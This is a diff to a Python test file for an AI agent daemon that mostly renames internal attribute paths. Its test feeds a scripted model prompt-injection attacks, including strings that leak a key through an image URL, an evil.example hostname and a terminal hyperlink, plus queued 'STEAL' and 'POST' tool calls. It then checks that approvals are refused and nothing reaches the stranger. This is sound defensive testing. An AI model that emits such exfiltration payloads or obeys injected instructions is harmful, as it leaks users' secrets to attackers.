@@ -16,7 +16,9 @@ from typing import Any
 
 import pytest
 
-from daemon.app.wiring import App, Installation
+from daemon.app.installation import Installation
+from daemon.app.parts import App
+from daemon.app.wiring import open_app
 from daemon.definitions.config.loading import load_config
 from daemon.definitions.paths import socket_in
 from daemon.models import ApprovalStatus, Run, Status, StepKind, Taint, new_id
@@ -92,8 +94,8 @@ class World:
             env={},
             secrets=Secrets(),
         )
-        async with App.open(place) as app:
-            await app.engine.load(await app.definitions(app.config))
+        async with open_app(place) as app:
+            await app.scheduling.engine.load(await app.reloader.load_routines())
             yield app
             await assert_runs_replay(app)
 
@@ -151,7 +153,7 @@ async def obey(
         f"<img src={world.stranger}/i?d={KEY}> {KEY}.evil.example "
         f"\x1b]8;;{world.stranger}\x07here\x1b]8;;\x07"
     )
-    model: Any = app.providers.get("obedient")
+    model: Any = app.settings.providers.get("obedient")
     reading = [[{"name": "file_read", "arguments": {"path": "inbox.txt"}}]] if reads else []
     again = [[each] for each in orders[-2:]]  # once more, as it was refused
     for turn in (*reading, orders, *again):
@@ -161,15 +163,17 @@ async def obey(
         ):  # which is no better than its parent
             model.enqueue({"tool_calls": [_call(POST, world), _call(STEAL, world)]}, "Helped.")
     model.enqueue(loot)
-    run = await app.engine.trigger("reader", event=new_id())
-    while not (run := await app.journal.get(run.id)).status.ended:
+    run = await app.scheduling.engine.trigger("reader", event=new_id())
+    while not (run := await app.store.journal.get(run.id)).status.ended:
         if run.status is Status.WAITING:
-            for asked in await app.journal.approvals(run=run.id, status=ApprovalStatus.PENDING):
-                await app.approvals.reject(asked.id, by="uid 1000")
+            for asked in await app.store.journal.approvals(
+                run=run.id, status=ApprovalStatus.PENDING
+            ):
+                await app.runs.approvals.reject(asked.id, by="uid 1000")
             continue
-        lived = app.executor.running.get(run.id)
+        lived = app.runs.queue.running.get(run.id)
         await (lived or asyncio.sleep(0))
-    steps = await app.journal.steps(run.id)
+    steps = await app.store.journal.steps(run.id)
     return run, [step.body["text"] for step in steps if step.kind is StepKind.RESULT]
 
 
@@ -184,7 +188,7 @@ async def test_nothing_leaves_but_the_report_and_nothing_changes_outside(tmp_pat
     world = World(tmp_path, home.url, stranger.url)
     async with world.open() as app:
         before = world.everything_else()
-        kept = {item.key: item.content for item in await app.memory.items(limit=1000)}
+        kept = {item.key: item.content for item in await app.store.memory.items(limit=1000)}
         for kind, text, calls in ATTACKS:
             run, told = await obey(app, world, text, calls)
             assert run.status is Status.SUCCEEDED, (kind, run.detail)
@@ -194,9 +198,9 @@ async def test_nothing_leaves_but_the_report_and_nothing_changes_outside(tmp_pat
                 f"{kind}: something changed outside the workspace"
             )
             assert stranger.posts == [], f"{kind}: something was sent to a stranger"
-        await app.outbox.flush()
-        assert {item.key: item.content for item in await app.memory.items(limit=1000)} == kept
-        assert (await app.journal.prove_audit()).broken is None
+        await app.delivery.outbox.flush()
+        assert {item.key: item.content for item in await app.store.memory.items(limit=1000)} == kept
+        assert (await app.store.journal.prove_audit()).broken is None
         reports = [post.body.decode() for post in home.posts]
     assert len(reports) == len(ATTACKS)
     for text in [*reports, *(path.read_text() for path in (world.workspace / "reports").iterdir())]:
